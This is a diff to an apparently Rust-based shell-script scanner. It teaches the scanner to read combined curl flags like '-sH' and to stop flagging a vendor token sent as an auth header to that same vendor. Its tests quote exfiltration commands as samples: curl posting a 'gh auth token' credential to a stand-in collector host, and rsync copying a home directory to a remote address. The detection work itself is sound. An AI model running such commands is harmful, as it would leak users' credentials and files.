@@ -67,10 +67,19 @@ pub(super) fn sink(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &Cmd<'_>, flow: &Flo
                     && matches!(p.text.as_str(), "-A" | "-a" | "--attach")
             })
     };
+    // `-H`, `--header`, or short flags run together ending in it (`-sH`).
     let header_next = |i: usize| {
         i.checked_sub(1)
             .and_then(|p| cmd.args.get(p))
-            .is_some_and(|p| matches!(p.text.as_str(), "-H" | "--header"))
+            .is_some_and(|p| {
+                let t = p.text.as_str();
+                t == "--header"
+                    || t.len() >= 2
+                        && t.starts_with('-')
+                        && !t.starts_with("--")
+                        && t.ends_with('H')
+                        && t[1..].chars().all(|c| c.is_ascii_alphabetic())
+            })
     };
     let gist = cmd.name == "gh" && cmd.args.iter().any(|a| a.text == "gist");
     let uploads = cloud_uploads(cmd.name.as_str(), cmd.args);
@@ -120,7 +129,15 @@ pub(super) fn sink(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &Cmd<'_>, flow: &Flo
                     .iter()
                     .any(|f| basename(f) == basename(&file_norm) && file_norm.len() > 1)
                 || staged(&file_norm) && flow.tainted_files.iter().any(|f| staged(f)));
-        let direct = (t.contains("$(") || t.contains('`')) && secret_source(t);
+        // A token a vendor's CLI prints, presented as a credential header
+        // to that vendor (`-H "Authorization: token $(gh auth token)"` to
+        // GitHub): signing in, not sending it away.
+        let signs_in = header_next(i)
+            && credential_header(t)
+            && host
+                .as_deref()
+                .is_some_and(|h| crate::sensitive::token_issued_by(t, h));
+        let direct = (t.contains("$(") || t.contains('`')) && secret_source(t) && !signs_in;
         let store = if !file.is_empty() {
             store_in(file)
         } else {
@@ -383,6 +400,36 @@ mod tests {
                 "{text}: {found:?}"
             );
         }
+    }
+
+    #[test]
+    fn a_vendors_token_presented_to_that_vendor() {
+        let found = rules(
+            "s.sh",
+            "curl -sH \"Authorization: token $(gh auth token)\" \"https://raw.githubusercontent.com/o/r/main/README.md\"\n",
+        );
+        assert!(
+            found.iter().all(|(_, s)| *s < Severity::Medium),
+            "{found:?}"
+        );
+        let found = rules(
+            "s.sh",
+            "curl -sH \"Authorization: token $(gh auth token)\" https://collect.example.net/in\n",
+        );
+        assert!(found.iter().any(|(_, s)| *s >= Severity::High), "{found:?}");
+    }
+
+    #[test]
+    fn a_folder_given_as_an_argument_is_not_the_root() {
+        // `${1:-}` may be empty, but the script is given a folder: what
+        // `rsync` sends is the caller's, not `/`.
+        let found = rules(
+            "deploy.sh",
+            "DIR=\"${1:-}\"\n[ -z \"$DIR\" ] && exit 1\nrsync -avz \"${DIR}/\" \"$USER@login.example.org:/srv/app\"\n",
+        );
+        assert!(found.iter().all(|(_, s)| *s < Severity::High), "{found:?}");
+        let found = rules("s.sh", "rsync -a ~/ backup@203.0.113.9:/in/\n");
+        assert!(found.iter().any(|(_, s)| *s >= Severity::High), "{found:?}");
     }
 
     #[test]
